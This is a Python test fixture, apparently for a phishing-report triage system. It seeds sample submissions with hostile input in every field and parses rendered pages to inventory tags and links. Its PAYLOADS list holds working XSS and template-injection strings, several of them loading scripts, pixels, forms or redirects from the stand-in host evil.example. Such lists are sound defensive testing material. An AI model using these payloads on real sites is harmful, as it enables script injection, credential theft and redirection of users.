"""What people try who want a page to act for them: in every field that comes from outside."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from html.parser import HTMLParser

from reading_room.sample import Stores, finding, key

from casefile.finding import Reason
from casefile.indicator import Indicator
from casefile.ports import Triaged
from casefile.reply import Answer, waits
from casefile.report import Attachment, Authentication, Cover, Reporter, Unwrapping
from triage.fingerprint import fingerprint

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    "<img/src=`x`onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "x onclick=alert(1) ",
    "` onload=`alert(1)",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=q><button>Search</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a id=content name=content>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    "https://evil.example/\"onclick='alert(1)'",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ue000<script>alert(1)</script>\ue001",
    "\x00<script\x00>alert(1)</script>",
    "\u202e<script>\u2066alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>{0.__class__}%s%n",
    "Markup('<script>alert(1)</script>')",
)


def hostile_key(number: int) -> str:
    """Give the key of the submission that carries payload `number`."""
    return key(1000 + number)


def attack(stores: Stores) -> None:
    """Bring in one submission a payload, each with its payload in every field."""
    now = datetime.now(UTC)
    for number, payload in enumerate(PAYLOADS):
        _attack(stores, number, payload, now)


def _attack(stores: Stores, number: int, payload: str, now: datetime) -> None:
    submission = hostile_key(number)
    made = finding(1000 + number, f"{payload} findable{number} " * 20, now)
    account = Indicator(
        kind="other",
        value=payload,
        as_written=payload + " ",
        found_in="text",
        check="unchecked",
        steps=(payload,),
    )
    inner = replace(
        made.report.reported,
        sender=payload,
        reply_to=payload,
        to=payload,
        subject=payload,
        date_as_written=payload,
        message_id=payload,
        headers=((payload, payload), ("X-Plain", payload)),
        attachments=(Attachment(filename=payload, content_type=payload, size=1, sha256=payload),),
    )
    report = replace(
        made.report,
        reporter=Reporter(address=payload, note=payload),
        unwrapping=Unwrapping(how="inline", client=payload, language=payload, depth=1),
        reported=inner,
    )
    whole = replace(
        made,
        report=report,
        hidden=payload,
        accounts=(account,),
        contacts=(account,),
        language=payload[:40],
        verdict=replace(made.verdict, reasons=(Reason(rule=payload, words=payload),)),
        defects=(payload,),
        fingerprint=fingerprint("", ()),
    )
    (placement,) = stores.register.place([whole])
    placed = replace(whole, placement=replace(placement, why=payload, version=payload))
    cover = Cover(
        authors=(payload,),
        from_headers=1,
        marks=(payload,),
        message_id=payload,
        answers_us=False,
        authentication=Authentication(method="loopback", passed=False, reason=payload),
        content_hash=payload,
    )
    _keep(stores, Triaged(key=submission, sha256="", cover=cover, findings=(placed,)), payload, now)


def _keep(stores: Stores, done: Triaged, payload: str, now: datetime) -> None:
    stores.record.receive([done.key], now)
    stores.record.take("triage", [done.key], "sample", now)
    stores.record.triaged([done], now)
    stores.index.upsert(done.findings)
    wish = Answer(main="general", parts=(), alert=False, languages=("en",))
    stores.ledger.decline(done.key, wish, "suppressed", payload, now)
    stores.record.answered(done.key, [waits(done.key, "unanswered", payload, now)])


class Inventory(HTMLParser):
    """Which tags with which attributes a page holds, where it leads, and what it says."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.marks: set[tuple[str, str]] = set()
        self.leads: set[str] = set()
        self.said = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag and its attributes."""
        self.marks.add((tag, ""))
        for name, value in attrs:
            self.marks.add((tag, name))
            if name in {"href", "src", "action", "data", "srcset", "formaction"}:
                self.leads.add(value or "")

    def handle_data(self, data: str) -> None:
        """Note what is said."""
        self.said += data
